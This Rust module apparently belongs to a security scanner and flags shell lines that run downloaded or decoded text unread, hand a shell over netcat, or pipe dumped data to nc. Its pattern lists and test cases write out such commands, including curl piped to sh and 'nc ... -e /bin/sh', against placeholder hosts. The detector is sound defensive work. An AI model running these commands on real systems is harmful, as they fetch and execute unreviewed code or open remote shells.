//! What a shell is made to run: text that comes through a pipe, or out of another command.
//!
//! `curl … | sh`, `bash <(curl …)` and `sh -c "$(curl …)"` are one thing in three spellings. What makes it telling is that nobody has read
//! the text before it runs. So it counts only where the shell runs the text: `curl … | sh -c 'cat > file'` and
//! `curl … | python3 -m json.tool` only read it, and `echo $(curl …)` writes it out.

use super::{HANDS_A_SHELL, HIDES_WHAT_RUNS, RUNS_FROM_ELSEWHERE, SENDS_AWAY, place};
use crate::template;

/// Most of a command that is read from each place where one may begin, in bytes. A line may be made of nothing but beginnings, and what is
/// told from here stands near: an option of netcat's, a command in brackets.
const COMMAND_BYTES_MAX: usize = 1024;

/// What gives out text that nobody has read, as it begins in a command line.
const SOURCES: &[(&str, &str)] = &[
    ("curl ", RUNS_FROM_ELSEWHERE),
    ("wget ", RUNS_FROM_ELSEWHERE),
    ("lynx ", RUNS_FROM_ELSEWHERE),
    ("nc ", RUNS_FROM_ELSEWHERE),
    ("ncat ", RUNS_FROM_ELSEWHERE),
    ("base64 -d", HIDES_WHAT_RUNS),
    ("base64 --decode", HIDES_WHAT_RUNS),
    ("base32 -d", HIDES_WHAT_RUNS),
    ("xxd -r", HIDES_WHAT_RUNS),
];

/// Programs that run what they are given.
const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "ksh", "zsh"];

/// Programs that run what they are given if they are given nothing else.
const INTERPRETERS: &[&str] =
    &["python", "python2", "python3", "perl", "ruby", "php", "node", "lua"];

/// Programs that run another one, whose name follows theirs: their options with a word of their own behind them, and how many words stand
/// before the name. Lines are in lower case, so that `-H` of sudo looks like `-h`, which takes a word: it is left out, being the rarer one.
const WRAPPERS: &[(&str, &[&str], usize)] = &[
    ("sudo", &["-u", "-g", "-p", "-c", "-r", "-t", "-d", "--user", "--group"], 0),
    ("doas", &["-u", "-c"], 0),
    ("runuser", &["-u", "-g"], 0),
    ("env", &["-u", "-c"], 0),
    ("nohup", &[], 0),
    ("exec", &["-a"], 0),
    ("command", &[], 0),
    ("setsid", &[], 0),
    ("busybox", &[], 0),
    ("nice", &["-n"], 0),
    ("ionice", &["-c", "-n"], 0),
    ("stdbuf", &["-i", "-o", "-e"], 0),
    ("timeout", &["-s", "-k"], 1),
    ("chroot", &[], 1),
];

/// What ends a word of a command line, beside a blank. A quote does: what stands in it is a command line of its own as often as not.
const WORD_ENDS: [char; 6] = [' ', '\'', '"', '&', ';', ')'];

/// Finds text that is run unread, and where what gives it out begins.
pub(super) fn unread(line: &str) -> Option<(usize, &'static str)> {
    through_pipe(line).or_else(|| out_of_command(line))
}

/// Finds a netcat that gives its connection to a program: the option must be its own, and not that of the next command.
pub(super) fn netcat(line: &str) -> Option<(usize, &'static str)> {
    ["nc ", "ncat "].iter().find_map(|name| {
        let at = line.match_indices(name).map(|(at, _)| at).find(|at| {
            let own = line.get(at + name.len() - 1..).unwrap_or_default();
            let own = template::head(own, COMMAND_BYTES_MAX);
            let own = own.split(['|', ';']).next().unwrap_or_default();
            let own = own.split("&&").next().unwrap_or_default();
            super::begins_word(line, *at) && (own.contains(" -e ") || own.contains(" --exec"))
        })?;
        Some((at, HANDS_A_SHELL))
    })
}

/// Programs that pack or dump what there is.
const PACKERS: &[&str] = &[
    "tar",
    "mysqldump",
    "mariadb-dump",
    "pg_dump",
    "pg_dumpall",
    "mongodump",
    "dd",
    "zip",
    "gzip",
    "openssl",
];

/// Finds what packs data and hands it to another machine through a pipe.
pub(super) fn sent_away(line: &str) -> Option<(usize, &'static str)> {
    let mut packed = None;
    let mut at = 0;
    // `a || b` runs b if a fails; nothing goes from one to the other.
    for part in line.replace("||", ";;").split('|') {
        let name = program(part, true);
        if packed.is_some() && matches!(name, "nc" | "ncat") {
            return packed.map(|at| (at, SENDS_AWAY));
        }
        // What goes into the pipe is the last of the commands before it.
        let last = program(part.rsplit([';', '&', '\'', '"']).next().unwrap_or(part), true);
        packed = packed.or((PACKERS.contains(&name) || PACKERS.contains(&last)).then_some(at));
        at += part.len() + 1;
    }
    None
}

/// Gives the words of the command with which a text begins, or goes on.
pub(super) fn own_words(text: &str) -> impl Iterator<Item = &str> {
    let own = text.split(['|', ';', '&', ')', '`']).next().unwrap_or_default();
    own.split([' ', '\'', '"']).filter(|word| !word.is_empty())
}

/// Names the program that a piece of a command line runs, without its folder. `are_shells_skipped` asks for what a shell was given to run.
pub(super) fn program(part: &str, are_shells_skipped: bool) -> &str {
    command(part, are_shells_skipped).0
}

/// Tells whether a program runs what it is given.
pub(super) fn runs_text(name: &str) -> bool {
    SHELLS.contains(&name) || INTERPRETERS.contains(&name)
}

/// Splits a piece of a command line into the program that it runs and the words behind it.
fn command(part: &str, are_shells_skipped: bool) -> (&str, &str) {
    let mut rest = part;
    // Options of the last wrapper that take a word, and words that it takes before the program.
    let (mut valued, mut operands): (&[&str], usize) = (&[], 0);
    loop {
        rest = rest.trim_start_matches(WORD_ENDS);
        let end = rest.find(WORD_ENDS).unwrap_or(rest.len());
        let (Some(word), Some(after)) = (rest.get(..end), rest.get(end..)) else {
            return ("", "");
        };
        if word.is_empty() {
            return ("", "");
        }
        rest = after;
        if word.starts_with('-') {
            if valued.contains(&word) {
                rest = skipped_word(rest);
            }
            continue;
        }
        // What is set before a command: `A=1 sh`.
        if word.contains('=') {
            continue;
        }
        if operands > 0 {
            operands -= 1;
            continue;
        }
        let name = word.rsplit('/').next().unwrap_or(word);
        if let Some((_, options, before)) = WRAPPERS.iter().find(|(wrapper, ..)| *wrapper == name) {
            (valued, operands) = (options, *before);
        } else if !(are_shells_skipped && SHELLS.contains(&name)) {
            return (name, rest);
        } else {
            valued = &[];
        }
    }
}

/// Gives what follows the next word.
fn skipped_word(text: &str) -> &str {
    let text = text.trim_start_matches(WORD_ENDS);
    text.find(WORD_ENDS).and_then(|end| text.get(end..)).unwrap_or_default()
}

/// Finds what goes through a pipe to a program that runs it.
fn through_pipe(line: &str) -> Option<(usize, &'static str)> {
    SOURCES.iter().find_map(|(word, reason)| {
        let at = place(line, word)?;
        // `a || b` runs b if a fails; nothing goes from one to the other.
        let rest = line.get(at..)?.replace("||", ";");
        rest.split('|').skip(1).any(runs_its_input).then_some((at, *reason))
    })
}

/// Tells whether the command behind a pipe runs what comes through it. A shell doesn't if it was given a command or a file to run.
fn runs_its_input(part: &str) -> bool {
    let (name, rest) = command(part, false);
    // A quote, a bracket or a semicolon ends the command, but for the one that the name itself stood in.
    let own = rest.trim_start_matches(['\'', '"']);
    let own = own.split(['\'', '"', ';', ')', '`']).next().unwrap_or_default();
    let own = own.split("&&").next().unwrap_or_default();
    // `2>&1`, `> log`, `>/dev/null` and the ampersand of a command in the background are no arguments.
    let mut words = own.split(' ').filter(|word| !word.is_empty() && *word != "&");
    let is_interpreter = INTERPRETERS.contains(&name);
    if !is_interpreter && !SHELLS.contains(&name) {
        return false;
    }
    while let Some(word) = words.next() {
        if let Some(at) = word.find('>') {
            if word.len() == at + 1 {
                words.next();
            }
            continue;
        }
        let options = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
        match options {
            _ if matches!(word, "-" | "/dev/stdin") => return true,
            Some(letters) if is_interpreter => return letters.is_empty(),
            Some(letters) if letters.contains('c') => return false,
            Some(letters) if letters.contains('s') => return true,
            // The name of a setting follows: `-eo pipefail`.
            Some(letters) if letters.ends_with('o') => {
                words.next();
            }
            Some(_) => {}
            None if word.starts_with("--") && !is_interpreter => {}
            None => return false,
        }
    }
    true
}

/// Finds a command whose output is put where a program runs it: `bash <(…)`, `. <(…)`, `sh -c "$(…)"`, `eval "$(…)"`.
fn out_of_command(line: &str) -> Option<(usize, &'static str)> {
    let opens = |sign: &'static str| line.match_indices(sign).map(move |(at, _)| (at, sign));
    opens("<(").chain(opens("$(")).chain(opens("`")).find_map(|(at, sign)| {
        let before = line.get(..at)?;
        let is_run = if sign == "<(" { is_file_run(before) } else { is_text_run(before) };
        if !is_run {
            return None;
        }
        let inside = template::head(line.get(at + sign.len()..)?, COMMAND_BYTES_MAX);
        let inside = inside.split([')', '`']).next().unwrap_or_default();
        SOURCES.iter().find_map(|(word, reason)| {
            place(inside, word).map(|source| (at + sign.len() + source, *reason))
        })
    })
}

/// Gives the words of the command that a piece of a line ends with, last first.
fn last_words(before: &str) -> impl Iterator<Item = &str> {
    let own = before.rsplit(['|', ';', '(', '`']).next().unwrap_or_default();
    let ends = |c: char| matches!(c, ' ' | '\'' | '"' | '\\' | '&');
    own.rsplit(ends)
        .filter(|word| !word.is_empty())
        .map(|word| word.rsplit('/').next().unwrap_or(word))
}

/// Tells whether what follows is the file that a program runs.
fn is_file_run(before: &str) -> bool {
    let before = before.trim_end();
    // `bash < <(…)` reads it instead, which is the same.
    let before = before.strip_suffix('<').unwrap_or(before);
    last_words(before)
        .find(|word| !word.starts_with('-'))
        .is_some_and(|word| runs_text(word) || matches!(word, "source" | "."))
}

/// Tells whether what follows is the command that a program was given to run.
fn is_text_run(before: &str) -> bool {
    let mut words = last_words(before);
    match words.next() {
        Some("eval") => true,
        Some("<<<") => words.find(|word| !word.starts_with('-')).is_some_and(runs_text),
        Some(option) => {
            let letters = option.strip_prefix('-').unwrap_or_default();
            letters.ends_with(['c', 'e', 'r'])
                && words.find(|word| !word.starts_with('-')).is_some_and(runs_text)
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_is_run_unread_is_found_in_each_spelling() {
        for line in [
            "curl -s http://h/a | sh",
            "curl http://h/a | sudo -u bob sh",
            "curl http://h/a | sudo -h bash -s -- --yes",
            "curl http://h/a | env -u a b=1 timeout -k 5 10 nice -n 5 bash -x",
            "curl http://h/a |& bash -eo pipefail > /dev/null 2>&1 &",
            "wget -qo- http://h/a | tee f | doas -u bob /bin/ash /dev/stdin",
            "curl http://h/a | \"bash\"; rm a",
            "sh -c 'curl http://h/a | python3 -'",
            "curl http://h/a | perl",
            "nc 192.0.2.1 9 | sh",
            "echo aa | base64 -d | chroot /srv bash",
            "bash <(curl -s http://h/a)",
            "bash -x < <(curl -s http://h/a)",
            "true; . <(wget -qo- http://h/a)",
            "sh -c \"$(curl -fssl http://h/a)\"",
            "/bin/bash -lc \"`curl http://h/a`\"",
            "bash -c \"$(echo aa | base64 -d)\"",
            "eval \"$(wget -o- http://h/a)\"",
            "bash <<< $(curl http://h/a)",
            "python3 -c \"$(curl http://h/a)\"",
        ] {
            assert!(unread(line).is_some(), "{line}");
        }
    }

    #[test]
    fn text_that_is_only_read_is_not() {
        for line in [
            "curl -s http://h/a | sha256sum",
            "curl -s http://h/a | python3 -m json.tool",
            "curl -s http://h/a | python3 -c 'import json'",
            "curl -s http://h/a | perl -ne print",
            "curl -s http://h/a | php filter.php",
            "curl -s http://h/key | sudo sh -c 'cat > /etc/apt/a.gpg'",
            "curl -s http://h/list | bash /opt/import.sh",
            "curl -s http://h/list | sudo -u bash tee /srv/a",
            "curl -sf http://h/health || sh /opt/restart.sh",
            "diff <(curl http://h/a) <(curl http://h/b)",
            "bash -c 'echo $(curl -s http://h/a)'",
            "bash -c 'a=$(curl -s http://h/a); test -n $a'",
            "sh $(curl -s http://h/name)",
            "cat <(curl http://h/a)",
            "bash <(sed s/a/b/ /opt/a.sh)",
            "find . -e \"$(curl http://h/a)\"",
        ] {
            assert_eq!(unread(line), None, "{line}");
        }
    }

    #[test]
    fn the_option_of_the_next_command_is_not_that_of_netcat() {
        for line in ["nc 192.0.2.1 9 -e /bin/sh", "sudo ncat --exec /bin/sh h 9", "nc -e sh h 9"] {
            assert!(netcat(line).is_some(), "{line}");
        }
        for line in
            ["nc -z h 22 && rsync -e ssh a h:", "nc -z h 22; ssh -e none h", "rsync -e ssh a"]
        {
            assert_eq!(netcat(line), None, "{line}");
        }
    }

    #[test]
    fn the_program_behind_others_is_named() {
        assert_eq!(program("sudo -u bob /usr/bin/stat a", false), "stat");
        assert_eq!(program("timeout 5 sh -c 'cat a'", true), "cat");
        assert_eq!(program("timeout 5 sh -c 'cat a'", false), "sh");
        assert_eq!(program("sudo -u", false), "");
    }
}
